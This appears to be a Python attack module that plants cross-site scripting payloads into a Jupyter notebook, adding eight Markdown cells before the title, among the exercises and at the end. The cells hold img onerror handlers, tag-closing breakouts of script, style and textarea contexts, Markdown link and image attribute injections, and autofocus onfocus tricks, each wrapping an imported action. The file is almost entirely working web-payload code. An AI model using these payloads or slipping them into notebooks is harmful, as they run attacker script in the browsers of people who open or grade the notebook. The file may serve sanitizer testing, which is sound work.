"""Add Markdown cells before the title, among the exercises and after the end, and break out of what surrounds them."""

from attack import ACT
from nbformat import v4

texts = [
    "<img src=x onerror='{}'>",
    "--></style></script></textarea></title></pre></div></div><script>{}</script><!--",
    "<div hidden>\n\n<script>{}</script>",
    "[x]: <x> \"'><img src=x onerror='{}'>\"\n\n[x]",
    '![x" onerror="{}](x)',
    "<p\nonclick='{0}'\nonmouseover='{0}'><img src=`x` onerror='{0}'>",
    "</p><plaintext><img src=x onerror='{}'>",
    "<x onfocus='{0}' tabindex=0 id=x autofocus></x><a id=x tabindex=1 onfocus='{0}' autofocus></a>",
]


def tamper(notebook):
    cells = [v4.new_markdown_cell(text.format(ACT), id=f"mine-{number}") for number, text in enumerate(texts)]
    notebook.cells[:0] = cells[:2]
    notebook.cells[6:6] = cells[2:4]
    notebook.cells += cells[4:]
